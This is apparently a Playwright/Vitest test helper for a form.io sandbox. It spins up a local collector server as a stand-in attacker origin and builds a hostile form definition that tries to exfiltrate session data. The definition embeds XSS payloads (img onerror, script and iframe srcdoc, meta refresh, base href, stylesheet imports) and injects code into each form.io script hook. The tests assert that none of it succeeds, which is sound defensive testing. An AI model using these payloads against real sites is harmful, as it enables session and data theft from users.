import { createSocket } from 'node:dgram'
import { readFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Frame, Page } from 'playwright-core'
import { expect } from 'vitest'

/** What hostile code sends its booty to. */
export type Collector = {
  url: string
  /** Paths of the requests that came, and what else was met. */
  hits: string[]
  close(): Promise<void>
}

/** Listens on a port of its own, which makes it another origin; by HTTP, WebSocket and, for WebRTC, UDP. */
export async function openCollector(): Promise<Collector> {
  const hits: string[] = []
  const server = createServer((request, response) => {
    hits.push(request.url ?? '')
    response.setHeader('access-control-allow-origin', '*')
    response.end('')
  })
  server.on('upgrade', (request, socket) => {
    hits.push(request.url ?? '')
    socket.destroy()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo // a TCP server's address is no string
  const udp = createSocket('udp4', () => hits.push('/udp'))
  await new Promise<void>((resolve) => udp.bind(port, '127.0.0.1', resolve))
  return {
    url: `http://127.0.0.1:${port}`,
    hits,
    close: async () => {
      server.closeAllConnections()
      udp.close()
      await new Promise((done) => server.close(done))
    },
  }
}

const attacks = readFileSync(new URL('./hostile-attacks.js', import.meta.url), 'utf8')

/** A file id that no form of a test has; hostile code asks the page for it. */
export const victimFileId = 'deadbeef-dead-4ead-8ead-deadbeefdead'

/** The attacks as a statement. `place` is noted where it runs, so that a test knows that it did. */
export function attackCode(collectorUrl: string, apiPath: string, place: string): string {
  const values = [collectorUrl, apiPath, victimFileId].map((value) => JSON.stringify(value)).join(', ')
  return `(window.hostileRan ??= new Set()).add('${place}'); ${attacks}\nglobalThis.attackEverything(${values});`
}

/**
 * A form whose author tries everything: own scripts at each place where form.io takes them, and HTML that runs or leads
 * away.
 * @param apiPath what to steal with the reader's session, such as the form's key
 */
export function hostileDefinition(collectorUrl: string, apiPath: string) {
  const code = (place: string) => attackCode(collectorUrl, apiPath, place)
  const inTemplate = (place: string) => `{{ (function () { ${code(place)} return '' })() }}`
  const handler = `fetch('${collectorUrl}/handler')`
  const html = [
    `<img src="x" onerror="${handler}"><img src="${collectorUrl}/html-image">`,
    `<script>${handler}</script><script src="${collectorUrl}/html-script"></script>`,
    `<iframe src="${collectorUrl}/html-iframe"></iframe><iframe srcdoc="<script>${handler}</script>"></iframe>`,
    `<meta http-equiv="refresh" content="0;url=${collectorUrl}/html-refresh"><base href="${collectorUrl}/">`,
    `<form action="${collectorUrl}/html-form"><button autofocus>Next</button></form>`,
    `<a href="${collectorUrl}/html-top" target="_top">Leave</a><svg onload="${handler}"></svg>`,
    `<link rel="stylesheet" href="${collectorUrl}/html-css"><style>@import url(${collectorUrl}/html-style);</style>`,
  ].join('')
  const trigger = { type: 'javascript', javascript: `${code('logicTrigger')} result = false` }
  return {
    display: 'form',
    components: [
      {
        type: 'textfield',
        key: 'name',
        label: 'Name',
        input: true,
        customDefaultValue: `${code('customDefaultValue')} value = ''`,
      },
      {
        type: 'textfield',
        key: 'sum',
        label: 'Sum',
        input: true,
        calculateValue: `${code('calculateValue')} value = ''`,
      },
      {
        type: 'textfield',
        key: 'shown',
        label: 'Shown',
        input: true,
        customConditional: `${code('customConditional')} show = true`,
      },
      {
        type: 'textfield',
        key: 'checked',
        label: 'Checked',
        input: true,
        validate: { custom: `${code('validate')} valid = true` },
      },
      { type: 'textfield', key: 'logic', label: 'Logic', input: true, logic: [{ name: 'l', trigger, actions: [] }] },
      { type: 'content', key: 'content', html: `${html}${inTemplate('content')}`, input: false },
      {
        type: 'htmlelement',
        key: 'element',
        tag: 'img',
        attrs: [
          { attr: 'src', value: 'x' },
          { attr: 'onerror', value: handler },
        ],
        content: `${html}${inTemplate('htmlelement')}`,
        input: false,
      },
      { type: 'textfield', key: 'labelled', label: `Labelled ${html}`, description: html, tooltip: html, input: true },
      { type: 'button', key: 'run', label: 'Run', action: 'custom', custom: code('button'), input: true },
      { type: 'button', key: 'submit', label: 'Submit', action: 'submit', input: true },
    ],
  }
}

type Outcome = { results: Record<string, string>; finished: boolean; ran: string[] }

/** Watches a page from before it opens a hostile form. */
export async function watchHostile(page: Page, collector: Collector, apiPath: string) {
  const asked: string[] = []
  const surprises: string[] = []
  // Of a request that the browser refused to make there is no response.
  page.context().on('response', (response) => {
    const { pathname } = new URL(response.url())
    if (pathname === apiPath || pathname.includes(victimFileId))
      asked.push(`${response.request().method()} ${pathname}`)
  })
  page.on('download', (download) => surprises.push(`download of ${download.suggestedFilename()}`))
  page.on('dialog', (dialog) => {
    surprises.push(`dialog “${dialog.message()}”`)
    void dialog.dismiss()
  })
  page.context().on('page', (opened) => surprises.push(`window ${opened.url()}`))
  await page.addInitScript(() => {
    try {
      localStorage.setItem('hostile.prey', 'prey')
      sessionStorage.setItem('hostile.prey', 'prey')
      // biome-ignore lint/suspicious/noDocumentCookie: as any page would do it.
      document.cookie = 'hostile=prey'
    } catch {
      // Where the frame has no storage there is nothing to steal.
    }
  })

  /** The frame of form.io on this page. */
  const hostileFrame = (): Frame => {
    const found = page.frames().find((frame) => new URL(frame.url(), 'http://none').pathname === '/app/frame')
    if (!found) throw new Error('There is no form.io frame on the page.')
    return found
  }

  /**
   * Fails unless the hostile code ran and got nothing.
   * @param ran the places of the definition where it must have run, such as `customDefaultValue`
   */
  async function expectHarmless({ ran }: { ran: string[] }): Promise<void> {
    const frame = hostileFrame()
    const address = page.url()
    await expect.poll(async () => (await outcomeIn(frame)).finished, { timeout: 20_000 }).toBe(true)
    const outcome = await outcomeIn(frame)
    expect(outcome.ran).toEqual(expect.arrayContaining(ran))
    expect(gotIn(outcome.results)).toEqual([])

    await frame.evaluate(() => window.hostile.forge())
    for (const way of await frame.evaluate(() => Object.keys(window.hostile.leave))) await leaveBy(way)
    await page.waitForTimeout(300) // nothing tells that nothing comes
    expect(page.url()).toBe(address)
    expect(asked).toEqual([])
    expect(surprises).toEqual([])
    expect(collector.hits).toEqual([])
    expect(await page.title()).not.toBe('taken over')
  }

  /** Some of them take the frame with them when they are refused; then there is nothing left to try. */
  async function leaveBy(way: string): Promise<void> {
    const frame = page.frames().find((each) => new URL(each.url(), 'http://none').pathname === '/app/frame')
    await frame?.evaluate((name) => window.hostile?.leave[name]?.(), way).catch(() => undefined)
    await page.waitForTimeout(100)
  }

  return { frame: hostileFrame, expectHarmless }
}

/** The attacks that got hold of something. */
export function gotIn(results: Record<string, string>): string[] {
  return Object.entries(results)
    .filter(([, result]) => result.startsWith('got: '))
    .map(([name, result]) => `${name} ${result}`)
}

export function outcomeIn(frame: Frame): Promise<Outcome> {
  return frame.evaluate(() => ({
    results: window.hostile?.results ?? {},
    finished: window.hostile?.finished === true,
    ran: [...(window.hostileRan ?? [])],
  }))
}

declare global {
  interface Window {
    hostileRan?: Set<string>
    hostile: {
      results: Record<string, string>
      finished: boolean
      forge(): void
      leave: Record<string, () => void>
    }
  }
}
